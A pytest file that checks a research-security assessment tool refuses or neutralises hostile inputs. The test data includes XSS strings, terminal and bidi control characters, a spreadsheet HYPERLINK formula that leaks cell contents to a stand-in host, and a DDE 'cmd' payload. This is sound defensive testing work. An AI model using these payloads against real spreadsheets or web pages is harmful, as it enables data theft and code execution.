"""A fixed corpus of hostile inputs: every malformed answers file, configuration
and CSV exits 2 (or fails to load) with a message naming the field and the reason; nothing
raises an uncaught error. benchmarks/fuzz.py throws generated inputs at the same entry points."""

from __future__ import annotations

import base64
import codecs
import csv
import io
import json
import re
import sys
from pathlib import Path
from typing import Any

import pytest

import assessments
from assessments import browser
from assessments.__main__ import main
from assessments.answers_file import read_answers_bytes
from assessments.config import parse_config
from tests.support.edits import DEFAULT_CONFIG as DEFAULT
from tests.support.edits import edit_config as _edit

# bytes of an answers file -> a fragment of the error message
ANSWERS = {
    "invalid utf-8": (b'{"activities": ["\xff\xfe"]}', "not UTF-8 text"),
    "latin-1": ('{"partner_names": ["Universit\u00e9"]}'.encode("latin-1"), "not UTF-8 text"),
    "utf-16 with bom": ('{"activities": []}'.encode("utf-16"), "UTF-16 text"),
    "utf-16 without bom": ('{"activities": []}'.encode("utf-16-le"), "UTF-16 text"),
    "utf-32": (codecs.BOM_UTF32_LE + '{}'.encode("utf-32-le"), "UTF-32 text"),
    "5000-digit number": (b'{"partner_country": ' + b"9" * 5000 + b"}", "a number of 5,000 characters"),
    "huge exponent": (b'{"partner_country": 1e999}', "out of range"),
    "NaN": (b'{"partner_country": NaN}', "NaN is not a JSON value"),
    "deep nesting": (b"[" * 5000 + b"]" * 5000, "nested more than"),
    "deep objects": (b'{"a":' * 3000 + b"1" + b"}" * 3000, "nested more than"),
    "duplicate key": (b'{"partner_country": "CN", "partner_country": "FR"}', "partner_country: the key appears twice"),
    "duplicate after invalid": (b'{"partner_country": 5, "partner_country": "FR"}', "appears twice"),
    "empty": (b"", "empty"),
    "only a bom": (codecs.BOM_UTF8, "empty"),
    "whitespace": (b" \n\t ", "empty"),
    "not json": (b"{not json", "not valid JSON"),
    "too large": (b" " * 1_000_001 + b"{}", "more than 1,000,000"),
    "lone surrogate key": (b'{"\\ud800": 1}', "unknown question id"),
    "not an object": (b"[1, 2]", "must be a JSON object"),
}


def _assess_cli(data: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
            via: str) -> tuple[int, str]:
    if via == "file":
        path = tmp_path / "answers.json"
        path.write_bytes(data)
        code = main(["assess", str(path), "--no-screening"])
    else:
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))
        code = main(["assess", "-", "--no-screening"])
    return code, capsys.readouterr().err


@pytest.mark.parametrize("via", ["file", "stdin"])
@pytest.mark.parametrize("case", list(ANSWERS))
def test_malformed_answers_exit_2_the_same_from_a_file_and_stdin(
    case: str, via: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    data, needle = ANSWERS[case]
    code, err = _assess_cli(data, tmp_path, monkeypatch, capsys, via)
    assert code == 2, err
    assert needle in err and err.startswith("error: ") and "Traceback" not in err


def test_the_reader_accepts_a_utf8_bom_and_keeps_valid_files() -> None:
    assert read_answers_bytes(codecs.BOM_UTF8 + b'{"partner_country": "FR"}') == {"partner_country": "FR"}


def test_answers_to_questions_not_asked_are_listed_as_not_used() -> None:
    result = assessments.assess({"activities": ["travel"], "visitor_country": "RU"}, screening=False)
    assert result["not_used"] == ["visitor_country"]
    assert assessments.assess({}, screening=False)["not_used"] == []


# Hostile configurations: each refused, naming the key.
HOSTILE_CONFIGS = {
    "title breakout": (_edit(r"^short_name = .*$", 'short_name = "EU</title><script>alert(3)</script>"'),
                       "institution.short_name", "markup"),
    "banner name": (_edit(r'^name = "Example University"$', 'name = "<img src=x onerror=alert(1)>"'),
                    "institution.name", "markup"),
    "contact label": (_edit(r'^label = "Research security office"$', 'label = "<b onmouseover=alert(2)>x</b>"'),
                      "contacts.research_security.label", "markup"),
    "phone attribute": (_edit(r'^phone = .*$', 'phone = \'+1" onclick="alert(5)\''),
                        "contacts.research_security.phone", "not a phone number"),
    "form title": (_edit(r'^title = "Export control review request"$', 'title = "</a><script>alert(6)</script>"'),
                   "forms.export_control_review.title", "markup"),
    "contact key": (DEFAULT + '\n[contacts."x<script>alert(7)</script>"]\nlabel = "X"\nemail = "x@example.edu"\n',
                    "contacts.x<script>", "not an id"),
    "form key": (DEFAULT + '\n[forms."a\\" onclick=\\"alert(8)"]\ntitle = "X"\nurl = "https://x.example.edu"\n',
                 "forms.a", "not an id"),
    "1 MB name": (_edit(r'^name = "Example University"$', 'name = "' + "A" * 1_000_000 + '"'),
                  "", "longer than"),
    "long name": (_edit(r'^name = "Example University"$', 'name = "' + "A" * 5_000 + '"'),
                  "institution.name", "more than 200"),
    "datetime": (_edit(r"^policy_last_reviewed = .*$", "policy_last_reviewed = 2026-11-22 10:00:00"),
                 "institution.policy_last_reviewed", "with a time"),
    "control character": (_edit(r'^office = .*$', 'office = "Office\\u001b[31m"'), "institution.office",
                          "control character U+001B"),
    "bidi override": (_edit(r'^office = .*$', 'office = "Office \\u202eevil"'), "institution.office",
                      "control character U+202E"),
    "newline": (_edit(r'^office = .*$', 'office = "Office\\nof"'), "institution.office", "control character"),
    "javascript url": (_edit(r'^url = "https://forms.example.edu/coi-disclosure"$', 'url = "javascript:alert(9)"'),
                       "forms.coi_disclosure.url", "not a URL"),
}


@pytest.mark.parametrize("case", list(HOSTILE_CONFIGS))
def test_hostile_configuration_is_refused_naming_the_key(case: str) -> None:
    text, key, reason = HOSTILE_CONFIGS[case]
    with pytest.raises(assessments.ConfigError) as info:
        parse_config(text, "hostile.toml")
    assert key in str(info.value) and reason in str(info.value)


def test_http_form_link_warns() -> None:
    text = _edit(r'^url = "https://forms.example.edu/coi-disclosure"$', 'url = "http://forms.example.edu/coi"')
    config = parse_config(text, "hostile.toml")
    assert any(w.startswith("forms.coi_disclosure.url:") and "https://" in w for w in config.warnings)
    assert parse_config(DEFAULT, "ok.toml").warnings == ()


@pytest.mark.parametrize("phone", ["+1 555 0100", "+44 (0)20 7946 0000", "555-0100 ext. 12", "+49 30 1234567 x5"])
def test_ordinary_phone_numbers_pass(phone: str) -> None:
    assert parse_config(_edit(r"^phone = .*$", f'phone = "{phone}"'), "ok.toml").contacts["research_security"].phone


def test_plain_text_with_ampersands_and_apostrophes_passes() -> None:
    config = parse_config(_edit(r'^name = "Example University"$', "name = \"Queen's R&D Institute\""), "ok.toml")
    assert config.identity["name"] == "Queen's R&D Institute"


# --- screen --file ------------------------------------------------------------

def _screen_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes, *args: str
) -> tuple[int, str, str]:
    path = tmp_path / "names.csv"
    path.write_bytes(content)
    code = main(["screen", "--file", str(path), *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_csv_output_neutralises_formulas(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
    code, out, _ = _screen_file(tmp_path, capsys, "\n".join(f'"{h.replace(chr(34), 2 * chr(34))}"'
                                                            for h in hostile).encode())
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["query"] for r in rows] == ["'" + h for h in hostile]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.parametrize(("content", "needle"), [
    (b"", "no names found"),
    (b"\n\n  \n", "no names found"),
    (b"name\n", "no names found"),
    (b"name\n\n", "no names found"),
    (b"\xef\xbb\xbfname\r\n", "no names found"),
    (b"Caf\xe9\n", "not UTF-8"),
    (b"\x1b\x07\x00\n", "empty name"),
    (b"x" * 400 + b"\n", "longer than 300"),
])
def test_empty_and_malformed_csv_exit_2(tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes,
                                        needle: str) -> None:
    code, out, err = _screen_file(tmp_path, capsys, content)
    assert code == 2 and out == "" and needle in err, err


def test_table_output_carries_no_control_sequences(capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["screen", "Tsinghua\x1b]0;pwned\x07 University\u202e\x9b31m"])
    out = capsys.readouterr().out
    assert code == 0
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out)


def _page_import(data: bytes) -> dict[str, Any]:
    """What the page gets for a file it imports: the engine's check_import on the file's bytes."""
    request = {"op": "check_import", "payload": base64.b64encode(data).decode("ascii")}
    return json.loads(browser.handle(json.dumps(request)))


@pytest.mark.parametrize("case", list(ANSWERS))
def test_the_page_imports_through_the_same_reader(case: str) -> None:
    """One reader for the page and the command line: every malformed file is refused with the CLI's reason."""
    data, needle = ANSWERS[case]
    reply = _page_import(data)
    if reply["ok"]:  # read, but nothing in it fits: the page says so and changes nothing
        result = reply["result"]
        assert result["answers"] == {} and any(needle in f["reason"] for f in result["left_out"]), reply
    else:
        error = reply["error"]
        assert needle in f"{error['key']}: {error['reason']}" or needle in error["reason"], reply


def test_the_page_imports_its_own_saved_file_and_bare_answers() -> None:
    saved = {"format": "research-security-assessment/1", "answers": {"activities": ["travel"]}, "result": None}
    for content in (saved, saved["answers"]):
        reply = _page_import(json.dumps(content).encode())
        assert reply == {"ok": True, "result": {"answers": {"activities": ["travel"]}, "left_out": [], "notices": []}}
    refused = json.loads(browser.handle(json.dumps({"op": "check_import", "payload": "not base64!"})))
    assert refused["ok"] is False and refused["error"]["reason"] == "not base64"
